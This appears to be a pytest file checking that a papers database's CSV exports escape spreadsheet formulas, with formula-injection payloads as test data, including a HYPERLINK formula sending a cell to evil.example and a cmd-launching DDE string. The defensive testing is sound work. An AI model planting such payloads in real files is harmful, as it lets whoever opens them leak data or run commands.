"""CSV that a spreadsheet may open: no text of a paper is a formula there, and nothing is lost."""

import asyncio
import csv
import io
import sqlite3
from contextlib import closing
from urllib.parse import quote

import httpx
import pytest
from browsed_database import ALPHA, BETA, GAMMA, browsed_database
from hypothesis import given
from hypothesis import strategies as st

from db import spreadsheets
from db.pages import application
from db.spreadsheets import harmless
from graph.site.served import Served

EVIL = (
    '=HYPERLINK("http://evil.example?x="&A1,"Error")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=1+1";\n"a, b"',
)
FINE = ("A title", "what = this?", "a-b", "", "'tis", "-5", "+5", "-0.25", "1e9", "-1E-3", "2024")


@pytest.fixture
def get(tmp_path):
    """Return a function that gets a page of a database with such titles."""
    path = browsed_database(tmp_path / "papers.db")
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute("DELETE FROM listed")
        connection.executemany(
            "INSERT INTO listed (collection, paper, key, title, listing, file, line, listed_at) "
            "VALUES (1, ?, ?, ?, '{}', 'f', -7, 't')",
            [(ALPHA, f"k{n:02}", title) for n, title in enumerate((*EVIL, *FINE))],
        )
        connection.execute("UPDATE papers SET title = ? WHERE id = ?", (EVIL[0], BETA))
        connection.execute("UPDATE papers SET citation_count = -5 WHERE id = ?", (GAMMA,))
        connection.execute("UPDATE answers SET request = ?", ('"=' + "x" * 200_000,))
    datasette = application(path, Served)
    with asyncio.Runner() as runner:

        def page(address: str) -> httpx.Response:
            response = runner.run(datasette.client.get(address))
            assert response.status_code == 200
            return response

        yield page
        datasette.executor.shutdown()
        for database in datasette.databases.values():
            database.close()


def read(response: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_what_would_be_a_formula_is_text_and_numbers_stay_numbers():
    assert [harmless(text) for text in EVIL] == [f"'{text}" for text in EVIL]
    assert [harmless(text) for text in FINE] == list(FINE)


@pytest.mark.parametrize("more", ["", "&_stream=1", "&_labels=on", "&_dl=1"])
def test_a_table(get, more):
    rows = read(get(f"/papers/listed.csv?_size=max&_sort=key{more}"))
    assert [row["title"] for row in rows] == [f"'{text}" for text in EVIL] + list(FINE)
    assert {row["line"] for row in rows} == {"-7"}
    exact = get("/papers/listed.json?_size=max&_sort=key&_shape=array").json()
    assert [row["title"] for row in exact] == [*EVIL, *FINE]


def test_labels_queries_and_long_cells(get):
    labelled = read(get("/papers/authorships.csv?_labels=on"))
    assert f"'{EVIL[0]}" in {row["paper_label"] for row in labelled}
    sql = quote("select title, citation_count from papers order by citation_count is null")
    assert {f"'{EVIL[0]}", "-5"} <= {
        cell for row in read(get(f"/papers.csv?sql={sql}")) for cell in row.values()
    }
    canned = read(get("/papers/most_cited.csv?collection=iclr"))
    assert all(not cell.startswith("=") for row in canned for cell in row.values())
    (answer,) = read(get("/papers/answers.csv"))
    assert answer["request"] == '"=' + "x" * 200_000


@given(
    st.lists(
        st.lists(st.text(st.characters(codec="utf-8"), max_size=8), min_size=1, max_size=3),
        max_size=4,
    ),
    st.integers(1, 9),
)
def test_rows_come_whole_however_they_are_sent(rows, size):
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    body = out.getvalue().encode()
    sent: list[dict[str, object]] = []

    async def send() -> None:
        async def note(message: dict[str, object]) -> None:
            sent.append(message)

        through = spreadsheets._Rows(note)
        await through({"type": "http.response.start", "headers": [(b"content-type", b"text/csv")]})
        for start in range(0, len(body), size):
            part = body[start : start + size]
            await through({"type": "http.response.body", "body": part, "more_body": True})
        await through({"type": "http.response.body", "body": b""})

    asyncio.run(send())
    text = b"".join(message.get("body", b"") for message in sent).decode()
    expected = [[harmless(cell) for cell in row] for row in rows]
    assert list(csv.reader(io.StringIO(text, newline=""))) == expected
